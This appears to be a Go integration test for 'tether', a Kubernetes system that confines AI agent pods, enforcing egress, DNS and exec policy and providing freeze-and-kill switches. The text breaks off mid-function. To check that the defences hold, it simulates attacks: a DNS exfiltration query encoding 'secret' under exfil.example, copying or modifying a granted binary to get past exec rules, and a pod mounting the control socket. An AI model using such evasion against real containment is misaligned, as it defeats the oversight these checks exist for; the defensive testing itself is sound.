package k8s

import (
	"context"
	"encoding/json"
	"fmt"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	"helm.sh/helm/v3/pkg/action"
	"helm.sh/helm/v3/pkg/chart/loader"
	"k8s.io/cli-runtime/pkg/genericclioptions"

	"github.com/tether-sh/tether/internal/dnstest"
)

// The agent the node test runs: a pod in namespace agents with service account coder.
const (
	agentNS = "agents"
	agentID = "spiffe://cluster.local/ns/agents/sa/coder"
)

// nodePolicyData is the shipped policy's data for the node test: the coder may connect to the
// granted test host's port, listen on 8080 and run the agent image's podagent, /usr/bin/allowed
// and /usr/bin/victim.
var nodePolicyData = map[string]any{
	"tether_settings": map[string]any{
		"networks": map[string]any{}, "internal_networks": []string{}, "git_binary": "/usr/bin/git", "tools": map[string]any{},
		"profiles": map[string]any{
			"k8s-test": map[string]any{
				"exec":      []string{"/usr/local/bin/podagent", "/usr/bin/allowed", "/usr/bin/victim"},
				"high_risk": []string{}, "network_egress": []string{}, "unix": []string{},
				"egress": []any{
					map[string]any{"cidr": grantedHost + "/32", "ports": []int{hostPort}, "protocol": "tcp"},
					// Resolved through the DNS proxy (namedHost, which no other rule grants).
					map[string]any{"fqdn": "*.k8s.test", "ports": []int{hostPort}, "protocol": "tcp"},
				},
				// The agent container serves on 8080 (the kill test sees it stop answering).
				"listen": []any{map[string]any{"ports": []int{8080}, "protocol": "tcp"}},
			},
		},
		"identities": map[string]any{agentID: map[string]any{"task_type": "k8s-test"}},
		"respond":    map[string]any{"freeze_after_denied_egress": 0},
	},
}

// nodeWorkloads are the test's pods: the agent (labelled, service account coder) and a
// bystander (not labelled: not an agent), both from the agent image.
const nodeWorkloads = `apiVersion: v1
kind: Namespace
metadata:
  name: agents
---
apiVersion: v1
kind: ServiceAccount
metadata:
  name: coder
  namespace: agents
---
apiVersion: v1
kind: Pod
metadata:
  name: agent
  namespace: agents
  labels:
    tether.dev/agent: "true"
spec:
  serviceAccountName: coder
  terminationGracePeriodSeconds: 1
  containers:
    - name: coder
      image: tether.test/agent:1
      imagePullPolicy: Never
---
apiVersion: v1
kind: Pod
metadata:
  name: bystander
  namespace: agents
spec:
  terminationGracePeriodSeconds: 1
  containers:
    - name: idle
      image: tether.test/agent:1
      imagePullPolicy: Never
---
# Not an agent either, but it mounts tetherd's sockets from the node: the control API still
# refuses it (only tetherd's own pod may use it).
apiVersion: v1
kind: Pod
metadata:
  name: intruder
  namespace: agents
spec:
  terminationGracePeriodSeconds: 1
  containers:
    - name: idle
      image: tether.test/agent:1
      imagePullPolicy: Never
      volumeMounts:
        - name: run
          mountPath: /run/tether
  volumes:
    - name: run
      hostPath:
        path: %s
        type: Directory
`

// TestNode: tether's chart on a real single-node cluster (cluster_test.go), installed with the
// Helm SDK as `helm install` does, and what it must do there, from inside real pods.
func TestNode(t *testing.T) {
	bin := requireNodeParts(t)
	start := time.Now()
	dir := t.TempDir()
	images := buildImages(t, dir)
	c := startCluster(t, bin, images)
	c.podagent = filepath.Join(dir, "bin", "podagent")
	c.startHosts(c.podagent)
	// The DNS proxy's upstream, on the bridge (tetherd's pod reaches it as it does the API server).
	c.dns = dnstest.StartAt(t, netip.AddrPortFrom(netip.MustParseAddr(bridgeAddr), 0))
	c.dns.Set("svc.k8s.test", 30, netip.MustParseAddr(namedHost))
	c.dns.Set("c2VjcmV0.exfil.example", 30, netip.MustParseAddr(namedHost))
	t.Logf("node Ready after %v", time.Since(start).Round(time.Second))

	pinDir := "/sys/fs/bpf/tether-test-k8s-" + filepath.Base(c.hostsNetns)[len("tether-test-k8s-"):]
	t.Cleanup(func() { os.RemoveAll(pinDir) })
	c.installChart(pinDir)
	t.Logf("tether Ready after %v", time.Since(start).Round(time.Second))

	wl := filepath.Join(c.dir, "workloads.yaml")
	os.WriteFile(wl, []byte(fmt.Sprintf(nodeWorkloads, c.tetherRun())), 0o644)
	c.mustKubectl("apply", "-f", wl)
	c.mustKubectl("-n", agentNS, "wait", "--for=condition=Ready", "pod/agent", "pod/bystander", "pod/intruder", "--timeout=120s")
	n := &node{cluster: c, bin: filepath.Join(dir, "bin"), agentCgroup: c.podCgroup(t, "agent")}

	// Each part starts from where the one before left the node: after a failure the rest would
	// only wait out their timeouts on a wrong state.
	for _, part := range []struct {
		name string
		run  func(*testing.T)
	}{
		{"agent", n.nodeAgent},
		{"dns", n.nodeDNS},
		{"exec", n.nodeExec},
		{"not agents", n.nodeNotAgents},
		{"cluster kill", n.nodeClusterKill},
		{"cluster kill while the node is down", n.nodeClusterKillWhileDown},
		{"tetherd restart", n.nodeRestart},
		{"kill", n.nodeKill},
		{"deleted pod", n.nodeDeletedPod},
	} {
		if !t.Run(part.name, part.run) {
			t.Fatalf("stopping after %q failed: the parts after it depend on it", part.name)
		}
	}
}

// node is the cluster TestNode runs on, with what its parts share.
type node struct {
	*cluster
	bin         string // the static binaries built for the images
	agentCgroup string // the agent pod's cgroup2 directory
}

// nodeAgent is the "agent" part of TestNode.
func (n *node) nodeAgent(t *testing.T) {
	waitFor(t, 60*time.Second, "tetherd to register "+agentID, func() error {
		out, err := n.tetherctl("agents")
		if err != nil || !strings.Contains(out, agentID) {
			return fmt.Errorf("tetherctl agents: %v\n%s", err, out)
		}
		return nil
	})
	out, err := n.podExec("agent", "podagent", "connect", fmt.Sprintf("%s:%d", grantedHost, hostPort))
	if err != nil || !strings.Contains(out, "tether-k8s") {
		t.Errorf("the agent could not reach its granted host: %v\n%s", err, out)
	}
	out, err = n.podExec("agent", "podagent", "connect", fmt.Sprintf("%s:%d", deniedHost, hostPort))
	if err == nil || !strings.Contains(out, "operation not permitted") {
		t.Errorf("the agent's connect to the other host was not refused with EPERM: %v\n%s", err, out)
	}
	rec := n.waitRecord(t, func(r record) bool {
		return r.Verdict == "deny" && r.SpiffeID == agentID && r.Destination == fmt.Sprintf("%s:%d", deniedHost, hostPort)
	})
	want := podRef{Node: nodeName, Namespace: agentNS, Pod: "agent", Container: "coder"}
	if rec.Kubernetes == nil || *rec.Kubernetes != want {
		t.Errorf("the denial names %+v, want %+v", rec.Kubernetes, want)
	}
}

// nodeDNS is the "dns" part of TestNode: the agent pod's DNS, to any resolver address, goes to
// the DNS proxy in tetherd's pod; a name its rule covers is answered as from the resolver asked
// and its address granted, a name none covers is NXDOMAIN and never reaches the server.
func (n *node) nodeDNS(t *testing.T) {
	named := fmt.Sprintf("%s:%d", namedHost, hostPort)
	if out, err := n.podExec("agent", "podagent", "connect", named); err == nil {
		t.Fatalf("the named host before its name was asked: %s", out)
	}
	// 192.0.2.53 (TEST-NET-1) is no server: only the proxy can answer.
	out, err := n.podExec("agent", "podagent", "dns", "192.0.2.53:53", "svc.k8s.test.")
	if err != nil || !strings.Contains(out, namedHost) {
		t.Fatalf("svc.k8s.test from the agent pod: %v\n%s", err, out)
	}
	if out, err := n.podExec("agent", "podagent", "connect", named); err != nil || !strings.Contains(out, "tether-k8s") {
		t.Errorf("the named host right after its answer: %v\n%s", err, out)
	}
	asked := n.dns.Queries()
	out, err = n.podExec("agent", "podagent", "dns", "192.0.2.53:53", "c2VjcmV0.exfil.example.")
	if err == nil || !strings.Contains(out, "no such host") {
		t.Errorf("an ungranted name from the agent pod: %v\n%s", err, out)
	}
	if got := n.dns.Queries() - asked; got != 0 {
		t.Errorf("the server got %d queries for an ungranted name", got)
	}
	rec := n.waitRecord(t, func(r record) bool {
		return r.Kind == "dns" && r.SpiffeID == agentID && r.Verdict == "deny" && r.DNS != nil && r.DNS.Name == "c2VjcmV0.exfil.example"
	})
	if rec.Kubernetes == nil || rec.Kubernetes.Pod != "agent" || rec.DNS.Rcode != "NXDOMAIN" {
		t.Errorf("the refused query's record: %+v %+v", rec.Kubernetes, rec.DNS)
	}
}

// nodeExec is the "exec" part of TestNode: exec rules name files inside the agent pod's image.
func (n *node) nodeExec(t *testing.T) {
	n.checkExec(t, "in the running pod")
	// Killed, not failed: /usr/bin/denied has the content of /usr/bin/allowed.
	out, err := n.podExec("agent", "podagent", "run", "/usr/bin/denied", "hello")
	if err == nil || !strings.Contains(out, "signal: killed") {
		t.Errorf("/usr/bin/denied was not killed: %v\n%s", err, out)
	}
	// The attack: a copy of the granted file is another file.
	if out, err := n.podExec("agent", "podagent", "copy", "/usr/bin/allowed", "/tmp/mine"); err != nil {
		t.Fatalf("copy: %v\n%s", err, out)
	}
	if out, err = n.podExec("agent", "podagent", "run", "/tmp/mine", "hello"); err == nil || strings.Contains(out, "hello") {
		t.Errorf("the agent ran a copy of a granted file: %v\n%s", err, out)
	}
	// The attack: a granted file changed in place (in the container: copied up from the image's
	// layer) is another program under the same name. Negative control: it ran before.
	if out, err := n.podExec("agent", "podagent", "run", "/usr/bin/victim", "hello"); err != nil || !strings.Contains(out, "hello") {
		t.Errorf("the granted /usr/bin/victim did not run: %v\n%s", err, out)
	}
	if out, err := n.podExec("agent", "podagent", "append", "/usr/bin/victim"); err != nil {
		t.Fatalf("append: %v\n%s", err, out)
	}
	if out, err = n.podExec("agent", "podagent", "run", "/usr/bin/victim", "hello"); err == nil || strings.Contains(out, "hello") {
		t.Errorf("the agent ran a granted file it had changed: %v\n%s", err, out)
	}
	// Not an agent: the same file runs.
	if out, err = n.podExec("bystander", "podagent", "run", "/usr/bin/denied", "hello"); err != nil || !strings.Contains(out, "hello") {
		t.Errorf("the unlabelled pod could not run /usr/bin/denied: %v\n%s", err, out)
	}
	rec := n.waitRecord(t, func(r record) bool {
		return r.Kind == "exec" && r.Verdict == "deny" && r.SpiffeID == agentID && r.Executable == "/usr/bin/denied"
	})
	if want := (podRef{Node: nodeName, Namespace: agentNS, Pod: "agent", Container: "coder"}); rec.Kubernetes == nil || *rec.Kubernetes != want {
		t.Errorf("the exec denial names %+v, want %+v", rec.Kubernetes, want)
	}

	// A container started while the pod is an agent: its first exec (the image's entrypoint)
	// is held until tetherd has resolved the rules in its root, then let go. The container's
	// main process is ended (by its PID: the test started the pod), and the kubelet starts it
	// again in a new container cgroup.
	restarts := func() string {
		return strings.TrimSpace(n.mustKubectl("-n", agentNS, "get", "pod", "agent", "-o", "jsonpath={.status.containerStatuses[0].restartCount}"))
	}
	before, _ := strconv.Atoi(restarts())
	if err := syscall.Kill(n.containerMain(t, "coder"), syscall.SIGKILL); err != nil {
		t.Fatal(err)
	}
	waitFor(t, 90*time.Second, "the coder container started again and Ready", func() error {
		out, err := n.kubectl("-n", agentNS, "get", "pod", "agent", "-o", "jsonpath={.status.containerStatuses[0].restartCount} {.status.containerStatuses[0].ready}")
		if err != nil || out != fmt.Sprintf("%d true", before+1) {
			return fmt.Errorf("restarts and ready: %q %v", out, err)
		}
		return nil
	})
	main := uint32(n.containerMain(t, "coder"))
	held := n.waitRecord(t, func(r record) bool {
		return r.Kind == "exec" && r.Reason == "unresolved-root" && r.PID == main && r.Executable == "/usr/local/bin/podagent"
	})
	let := n.waitRecord(t, func(r record) bool {
		return r.Kind == "exec" && r.Verdict == "allow" && r.Reason == "rule" && r.PID == main && r.Executable == "/usr/local/bin/podagent"
	})
	t.Logf("the restarted container's first exec was held %v (kernel's record to tetherd's decision)", let.Timestamp.Sub(held.Timestamp))
	for _, line := range strings.Split(n.mustKubectl("-n", Namespace, "logs", "ds/tether"), "\n") {
		if strings.Contains(line, `"held exec decided"`) && strings.Contains(line, fmt.Sprintf(`"pid":%d,`, main)) {
			t.Logf("tetherd: %s", line)
		}
	}
	n.checkExec(t, "after the container restarted")
	n.checkVerdicts(t, "after the container restarted")
}

// checkExec checks that the agent runs its image's granted /usr/bin/allowed and not
// /usr/bin/denied.
func (n *node) checkExec(t *testing.T, when string) {
	t.Helper()
	if out, err := n.podExec("agent", "podagent", "run", "/usr/bin/allowed", "hello"); err != nil || !strings.Contains(out, "hello") {
		t.Errorf("%s: the agent could not run its image's /usr/bin/allowed: %v\n%s", when, err, out)
	}
	if out, err := n.podExec("agent", "podagent", "run", "/usr/bin/denied", "hello"); err == nil || strings.Contains(out, "hello") {
		t.Errorf("%s: the agent ran /usr/bin/denied: %v\n%s", when, err, out)
	}
}

// containerMain is the PID, on the node, of the agent pod's container's main process: the
// process in the container's cgroup whose parent is outside it.
func (n *node) containerMain(t *testing.T, container string) int {
	t.Helper()
	id := strings.TrimSpace(n.mustKubectl("-n", agentNS, "get", "pod", "agent", "-o", "jsonpath={.status.containerStatuses[?(@.name=='"+container+"')].containerID}"))
	_, id, _ = strings.Cut(id, "://")
	b, err := os.ReadFile(filepath.Join(n.agentCgroup, id, "cgroup.procs"))
	if err != nil {
		t.Fatalf("container %s of the agent pod: %v", container, err)
	}
	procs := strings.Fields(string(b))
	for _, f := range procs {
		st, err := os.ReadFile("/proc/" + f + "/stat")
		if err != nil {
			continue
		}
		fields := strings.Fields(string(st[strings.LastIndexByte(string(st), ')')+1:]))
		if len(fields) > 1 && !slices.Contains(procs, fields[1]) {
			pid, _ := strconv.Atoi(f)
			return pid
		}
	}
	t.Fatalf("no main process in container %s of the agent pod", container)
	return 0
}

// nodeNotAgents is the "not agents" part of TestNode.
func (n *node) nodeNotAgents(t *testing.T) {
	for _, host := range []string{grantedHost, deniedHost} {
		out, err := n.podExec("bystander", "podagent", "connect", fmt.Sprintf("%s:%d", host, hostPort))
		if err != nil || !strings.Contains(out, "tether-k8s") {
			t.Errorf("the unlabelled pod could not reach %s: %v\n%s", host, err, out)
		}
	}
	out, _ := n.tetherctl("agents")
	if strings.Count(out, "spiffe://") != 1 {
		t.Errorf("tetherd has agents other than the labelled pod (its own pod, the bystander?):\n%s", out)
	}
	// The attack: a pod that mounts the node's tether sockets asks the control API for the
	// agents (a kill or a readmit would go the same way). tetherd's own pod was let in
	// above (tetherctl agents).
	out, err := n.podExec("intruder", "podagent", "api", "/run/tether/tether.sock", "/v1/agents")
	if err == nil || !strings.Contains(out, "403") {
		t.Errorf("a pod with the control socket mounted used the API: %v\n%s", err, out)
	}
}

// nodeClusterKill is the "cluster kill" part of TestNode.
func (n *node) nodeClusterKill(t *testing.T) {
	// tetherctl kill --cluster as an administrator runs it: with a kubeconfig.
	out, err := exec.Command(filepath.Join(n.bin, "tetherctl"), "kill", "--cluster", agentID, "--reason", "test-k8s fleet kill",
		"--kubeconfig", n.kubeconfig).CombinedOutput()
	if err != nil {
		t.Fatalf("tetherctl kill --cluster: %v\n%s", err, out)
	}
	name := strings.TrimPrefix(strings.Fields(string(out))[0], "agentkill/")
	st := n.waitKillStatus(t, name, "True")
	if len(st.Agents) != 1 || st.Agents[0].SpiffeID != agentID || st.Agents[0].Pod != agentNS+"/agent" || len(st.Agents[0].Steps) < 3 {
		t.Errorf("the node's status names %+v, want the agent pod with its steps", st.Agents)
	}
	for _, step := range st.Agents[0].Steps {
		if !step.Done || step.TookNs <= 0 {
			t.Errorf("step %+v: not done, or not timed", step)
		}
	}
	if !n.frozen(t, n.agentCgroup) {
		t.Error("the AgentKill did not freeze the agent pod")
	}
	// Deleting it readmits and thaws, also when it is deleted while the node's tetherd is not
	// running (no event will tell the next one): the kill path's deny list says which AgentKill
	// asked, and the returning tetherd readmits what one that no longer exists killed.
	n.tetherdOff(t)
	n.mustKubectl("delete", "agentkill", name)
	n.tetherdOn(t)
	waitFor(t, 30*time.Second, "the agent readmitted and thawed", func() error {
		if n.frozen(t, n.agentCgroup) {
			return fmt.Errorf("still frozen")
		}
		if n.killedAgents(t)[filepath.Base(n.agentCgroup)] {
			return fmt.Errorf("still killed")
		}
		return nil
	})
	n.checkVerdicts(t, "after the AgentKill was deleted")
}

// nodeClusterKillWhileDown is the "cluster kill while the node is down" part of TestNode.
func (n *node) nodeClusterKillWhileDown(t *testing.T) {
	// tetherd is taken off the node, the kill is issued with kubectl for service account
	// coder2, and a pod of it starts while no tetherd runs (not an agent yet: unknownCgroup
	// allow). No agent of that identity is on the node when tetherd comes back: only the
	// AgentKill says to deny it, and it must before the pod is admitted.
	const lateID = "spiffe://cluster.local/ns/agents/sa/coder2"
	n.tetherdOff(t)
	kill := filepath.Join(n.dir, "agentkill.yaml")
	os.WriteFile(kill, []byte("apiVersion: tether.dev/v1alpha1\nkind: AgentKill\nmetadata:\n  name: coders\nspec:\n  namespace: agents\n  serviceAccount: coder2\n  reason: test-k8s while down\n"), 0o644)
	n.mustKubectl("apply", "-f", kill)
	n.mustKubectl("-n", agentNS, "create", "serviceaccount", "coder2")
	late := filepath.Join(n.dir, "late.yaml")
	pod := strings.Split(nodeWorkloads, "---")[2]
	pod = strings.ReplaceAll(strings.ReplaceAll(pod, "name: agent\n", "name: late\n"), "serviceAccountName: coder\n", "serviceAccountName: coder2\n")
	os.WriteFile(late, []byte(pod), 0o644)
	n.mustKubectl("apply", "-f", late)
	n.mustKubectl("-n", agentNS, "wait", "--for=condition=Ready", "pod/late", "--timeout=60s")
	if out, err := n.podExec("late", "podagent", "connect", fmt.Sprintf("%s:%d", deniedHost, hostPort)); err != nil {
		t.Fatalf("with no tetherd on the node, the new pod is not an agent yet and should connect: %v\n%s", err, out)
	}
	n.tetherdOn(t)
	waitFor(t, 30*time.Second, "the late pod killed", func() error {
		st := n.waitKillStatus(t, "coders", "True")
		if len(st.Agents) != 1 || st.Agents[0].Pod != agentNS+"/late" || !st.Agents[0].Done {
			return fmt.Errorf("the node killed %+v, want the late pod", st.Agents)
		}
		return nil
	})
	lateCgroup := n.podCgroup(t, "late")
	if killed := n.killedAgents(t); !killed[filepath.Base(lateCgroup)] || !n.frozen(t, lateCgroup) || killed[filepath.Base(n.agentCgroup)] {
		t.Errorf("the late pod: killed %v, frozen %v; the other agent killed %v", killed[filepath.Base(lateCgroup)], n.frozen(t, lateCgroup), killed[filepath.Base(n.agentCgroup)])
	}
	logs := n.mustKubectl("-n", Namespace, "logs", "ds/tether")
	if !strings.Contains(logs, "registering an agent whose SPIFFE ID was killed") || !strings.Contains(logs, lateID) {
		t.Errorf("the late pod was not registered killed (denied before it was admitted):\n%s", tail(logs, 3000))
	}
	n.mustKubectl("delete", "agentkill", "coders")
	n.mustKubectl("-n", agentNS, "delete", "pod", "late", "--timeout=60s")
	n.checkVerdicts(t, "after the AgentKill for another identity")
}

// nodeRestart is the "tetherd restart" part of TestNode.
func (n *node) nodeRestart(t *testing.T) {
	old := strings.TrimSpace(n.mustKubectl("-n", Namespace, "get", "pods", "-l", "app.kubernetes.io/name=tether", "-o", "jsonpath={.items[0].metadata.name}"))
	n.mustKubectl("-n", Namespace, "delete", "pod", old, "--wait=false")
	// While the old pod stops and the new one starts, the pinned programs decide.
	n.checkExec(t, "while tetherd restarts")
	checks := 0
	for gone := false; !gone; checks++ {
		_, err := n.kubectl("-n", Namespace, "get", "pod", old)
		gone = err != nil
		n.checkVerdicts(t, "while tetherd restarts")
	}
	n.mustKubectl("-n", Namespace, "rollout", "status", "ds/tether", "--timeout=120s")
	n.mustKubectl("-n", Namespace, "wait", "--for=condition=Ready", "pod", "-l", "app.kubernetes.io/name=tether", "--timeout=120s")
	n.checkVerdicts(t, "after the restart")
	// The new tetherd compiles the pod's exec rules in its containers' roots from the start
	// (found again through a process with the recorded root), or the granted file would be
	// killed.
	n.checkExec(t, "after the restart")
	logs := n.mustKubectl("-n", Namespace, "logs", "ds/tether")
	if !strings.Contains(logs, `"msg":"adopted agent"`) || !strings.Contains(logs, agentID) {
		t.Errorf("the new tetherd did not adopt the pinned agent:\n%s", tail(logs, 3000))
	}
	t.Logf("verdicts checked %d times while the old pod stopped", checks)
}

// nodeKill is the "kill" part of TestNode.
func (n *node) nodeKill(t *testing.T) {
	podIP := strings.TrimSpace(n.mustKubectl("-n", agentNS, "get", "pod", "agent", "-o", "jsonpath={.status.podIP}"))
	podCgroup := n.agentCgroup
	answer := func() (string, error) {
		out, err := exec.Command("ip", "netns", "exec", n.hostsNetns, n.podagent, "connect", podIP+":8080").CombinedOutput()
		return string(out), err
	}
	if out, err := answer(); err != nil || !strings.Contains(out, "tether-k8s") {
		t.Fatalf("before the kill, the agent's container does not answer: %v\n%s", err, out)
	}
	procs := n.cgroupProcs(t, podCgroup)
	out, err := n.tetherctl("kill", agentID, "--reason", "test-k8s")
	if err != nil || !strings.Contains(out, "done true") {
		t.Fatalf("tetherctl kill: %v\n%s", err, out)
	}
	events, _ := os.ReadFile(filepath.Join(podCgroup, "cgroup.events"))
	if !strings.Contains(string(events), "frozen 1") {
		t.Errorf("after the kill, the pod's cgroup is not frozen:\n%s", events)
	}
	if out, err := answer(); err == nil {
		t.Errorf("the killed agent's container still answers: %s", out)
	}
	out, err = n.tetherctl("kill", agentID, "--reason", "test-k8s", "--terminate")
	if err != nil {
		t.Fatalf("tetherctl kill --terminate: %v\n%s", err, out)
	}
	waitFor(t, 10*time.Second, "the agent's processes to end", func() error {
		var left []int
		for _, pid := range procs {
			if _, err := os.Stat(fmt.Sprintf("/proc/%d", pid)); err == nil {
				left = append(left, pid)
			}
		}
		if len(left) > 0 {
			return fmt.Errorf("still running: %v", left)
		}
		return nil
	})
}

// nodeDeletedPod is the "deleted pod" part of TestNode.
func (n *node) nodeDeletedPod(t *testing.T) {
	n.mustKubectl("-n", agentNS, "delete", "pod", "agent", "--timeout=90s")
	waitFor(t, 60*time.Second, "the deleted pod's agent to go", func() error {
		out, err := n.tetherctl("agents")
		if err != nil || strings.Contains(out, agentID) {
			return fmt.Errorf("tetherctl agents: %v\n%s\nthe pod's cgroup:\n%s", err, out, cgroupTree(n.agentCgroup))
		}
		return nil
	})
}

// nodeKillStatus is what the test reads of an AgentKill's status on this node.
type nodeKillStatus struct {
	Conditions []struct {
		Type, Status, Reason, Message string
	} `json:"conditions"`
	Agents []struct {
		SpiffeID string `json:"spiffeID"`
		Pod      string `json:"pod"`
		Done     bool   `json:"done"`
		Steps    []struct {
			Name   string `json:"name"`
			Done   bool   `json:"done"`
			TookNs int64  `json:"tookNs"`
		} `json:"steps"`
	} `json:"agents"`
}

// waitKillStatus waits until the node's Killed condition of AgentKill name has status.
func (c *cluster) waitKillStatus(t *testing.T, name, status string) nodeKillStatus {
	t.Helper()
	var st nodeKillStatus
	waitFor(t, 60*time.Second, "AgentKill "+name+" carried out on the node", func() error {
		out, err := c.kubectl("get", "agentkill", name, "-o", "jsonpath={.status.nodes."+nodeName+"}")
		if err != nil || strings.TrimSpace(out) == "" {
			return fmt.Errorf("no status from the node: %v %s", err, out)
		}
		st = nodeKillStatus{}
		if err := json.Unmarshal([]byte(out), &st); err != nil {
			return err
		}
		if len(st.Conditions) == 0 || st.Conditions[0].Status != status {
			return fmt.Errorf("status %s", out)
		}
		return nil
	})
	return st
}

// frozen reports whether a cgroup says it is frozen.
func (c *cluster) frozen(t *testing.T, cgroup string) bool {
	b, err := os.ReadFile(filepath.Join(cgroup, "cgroup.events"))
	if err != nil {
		t.Fatal(err)
	}
	return strings.Contains(string(b), "frozen 1")
}

// tetherdOff takes tetherd off the node (a nodeSelector no node has) and waits until its pod is
// gone; tetherdOn brings it back and waits until it is Ready.
func (c *cluster) tetherdOff(t *testing.T) {
	t.Helper()
	c.mustKubectl("-n", Namespace, "patch", "ds/tether", "--type", "merge", "-p", `{"spec":{"template":{"spec":{"nodeSelector":{"tether-test/nowhere":"true"}}}}}`)
	c.mustKubectl("-n", Namespace, "wait", "--for=delete", "pod", "-l", "app.kubernetes.io/name=tether", "--timeout=60s")
}

func (c *cluster) tetherdOn(t *testing.T) {
	t.Helper()
	c.mustKubectl("-n", Namespace, "patch", "ds/tether", "--type", "json", "-p", `[{"op":"remove","path":"/spec/template/spec/nodeSelector/tether-test~1nowhere"}]`)
	c.mustKubectl("-n", Namespace, "rollout", "status", "ds/tether", "--timeout=120s")
	c.mustKubectl("-n", Namespace, "wait", "--for=condition=Ready", "pod", "-l", "app.kubernetes.io/name=tether", "--timeout=120s")
}

// checkVerdicts checks the agent's two connects: the granted host answers, the other is refused
// with EPERM.
func (c *cluster) checkVerdicts(t *testing.T, when string) {
	t.Helper()
	out, err := c.podExec("agent", "podagent", "connect", fmt.Sprintf("%s:%d", grantedHost, hostPort))
	if err != nil || !strings.Contains(out, "tether-k8s") {
		t.Errorf("%s: the agent could not reach its granted host: %v\n%s", when, err, out)
	}
	out, err = c.podExec("agent", "podagent", "connect", fmt.Sprintf("%s:%d", deniedHost, hostPort))
	if err == nil || !strings.Contains(out, "operation not permitted") {
		t.Errorf("%s: the agent's connect to the other host was not refused with EPERM: %v\n%s", when, err, out)
	}
}

// cgroupTree says what is in a cgroup tree: each cgroup's processes and events.
func cgroupTree(dir string) string {
	var b strings.Builder
	filepath.WalkDir(dir, func(p string, d os.DirEntry, err error) error {
		if err != nil {
			fmt.Fprintf(&b, "%v\n", err)
			return nil
		}
		if d.IsDir() {
			procs, _ := os.ReadFile(filepath.Join(p, "cgroup.procs"))
			events, _ := os.ReadFile(filepath.Join(p, "cgroup.events"))
			fmt.Fprintf(&b, "%s: procs %q events %q\n", p, procs, events)
		}
		return nil
	})
	return b.String()
}

// podCgroup is the cgroup2 directory of a pod in the agents namespace.
func (c *cluster) podCgroup(t *testing.T, pod string) string {
	t.Helper()
	uid := strings.TrimSpace(c.mustKubectl("-n", agentNS, "get", "pod", pod, "-o", "jsonpath={.metadata.uid}"))
	matches, _ := filepath.Glob(filepath.Join(c.cgroup2, c.cgroupRoot, "kubepods", "*", "pod"+uid))
	more, _ := filepath.Glob(filepath.Join(c.cgroup2, c.cgroupRoot, "kubepods", "pod"+uid))
	if matches = append(matches, more...); len(matches) != 1 {
		t.Fatalf("the cgroup of pod %s (%s): found %v", pod, uid, matches)
	}
	return matches[0]
}

// cgroupProcs lists the processes of a cgroup tree.
func (c *cluster) cgroupProcs(t *testing.T, dir string) []int {
	t.Helper()
	var pids []int
	filepath.WalkDir(dir, func(p string, d os.DirEntry, err error) error {
		if err != nil || d.IsDir() || d.Name() != "cgroup.procs" {
			return nil
		}
		b, _ := os.ReadFile(p)
		for _, f := range strings.Fields(string(b)) {
			var pid int
			fmt.Sscan(f, &pid)
			pids = append(pids, pid)
		}
		return nil
	})
	if len(pids) == 0 {
		t.Fatalf("no processes in %s", dir)
	}
	return pids
}

// installChart installs deploy/helm/tether with the Helm SDK (as `helm install --wait` does)
// for this node: the test's image, cgroups, paths and policy, and waits until its pod is Ready.
func (c *cluster) installChart(pinDir string) {
	t := c.t
	ch, err := loader.Load(ChartDir())
	if err != nil {
		t.Fatal(err)
	}
	files, err := ShippedPolicyFiles()
	if err != nil {
		t.Fatal(err)
	}
	data, _ := json.Marshal(nodePolicyData)
	files["data.json"] = string(data)
	values := map[string]any{
		"image":                 map[string]any{"repository": "tether.test/tether", "tag": "1", "pullPolicy": "Never"},
		"agentParent":           strings.TrimPrefix(c.cgroupRoot, "/") + "/kubepods",
		"hostCgroupRoot":        c.cgroup2,
		"kubernetesServiceHost": bridgeAddr,
		"kubernetesServicePort": fmt.Sprint(c.apiPort),
		"hostPaths":             map[string]any{"run": c.tetherRun(), "state": filepath.Join(c.dir, "tether-state")},
		"bpf":                   map[string]any{"pinDir": pinDir, "allowSample": 1},
		"log":                   map[string]any{"level": "debug"},
		"env":                   map[string]any{"cluster": "tether-test", "environment": "test"},
		"policy":                map[string]any{"files": files},
		"resources":             map[string]any{"requests": map[string]any{"cpu": "10m", "memory": "32Mi"}},
		"omitCapabilities":      toAny(c.missingCapabilities()),
		// The records in a container of their own: every record the test waits for is read there.
		"decisionLog": map[string]any{"export": "container"},
	}
	if c.dns != nil {
		values["dns"] = map[string]any{"server": c.dns.Addr, "proxy": map[string]any{"enabled": true}}
	}
	// PID 1 of this machine is in a user namespace above the test's, so its namespaces cannot be
	// read even as root; containerd gives containers a cgroup namespace of their own only on
	// cgroup2-only nodes, so on a hybrid one tetherd is in the node's already (and refuses to
	// start if it is not).
	if _, err := os.Stat("/proc/1/ns/cgroup"); err != nil {
		t.Logf("PID 1's cgroup namespace cannot be read here (%v): tetherd stays in its container's (cgroupNamespace: \"\")", err)
		values["cgroupNamespace"] = ""
	}
	flags := genericclioptions.NewConfigFlags(false)
	kc, ns := c.kubeconfig, Namespace
	flags.KubeConfig, flags.Namespace = &kc, &ns
	cfg := new(action.Configuration)
	if err := cfg.Init(flags, Namespace, "secret", func(format string, v ...any) { t.Logf("helm: "+format, v...) }); err != nil {
		t.Fatal(err)
	}
	install := action.NewInstall(cfg)
	install.ReleaseName, install.Namespace, install.CreateNamespace = Release, Namespace, true
	install.Wait, install.Timeout = true, 3*time.Minute
	if _, err := install.Run(ch, values); err != nil {
		out, _ := c.kubectl("-n", Namespace, "describe", "pods")
		logs, _ := c.kubectl("-n", Namespace, "logs", "ds/tether", "--tail", "60")
		t.Fatalf("helm install: %v\n%s\ntetherd:\n%s", err, out, logs)
	}
	// Helm's wait counts a DaemonSet ready with maxUnavailable pods not ready (here, its one pod):
	// the pod itself must be Ready, which is tetherd's /readyz.
	c.mustKubectl("-n", Namespace, "rollout", "status", "ds/tether", "--timeout=120s")
	c.mustKubectl("-n", Namespace, "wait", "--for=condition=Ready", "pod", "-l", "app.kubernetes.io/name=tether", "--timeout=120s")
}

// toAny is a list as values decoded from YAML hold it ([]any): the chart's schema check refuses a
// typed Go slice.
func toAny(list []string) []any {
	out := make([]any, len(list))
	for i, v := range list {
		out[i] = v
	}
	return out
}

// missingCapabilities are the chart's capabilities the container runtime here cannot grant: those
// missing from this machine's bounding set (CAP_SYS_RESOURCE here, which tetherd needs only
// before Linux 5.11).
func (c *cluster) missingCapabilities() []string {
	b, err := os.ReadFile("/proc/self/status")
	if err != nil {
		c.t.Fatal(err)
	}
	var bounding uint64
	for _, line := range strings.Split(string(b), "\n") {
		if v, ok := strings.CutPrefix(line, "CapBnd:"); ok {
			fmt.Sscanf(strings.TrimSpace(v), "%x", &bounding)
		}
	}
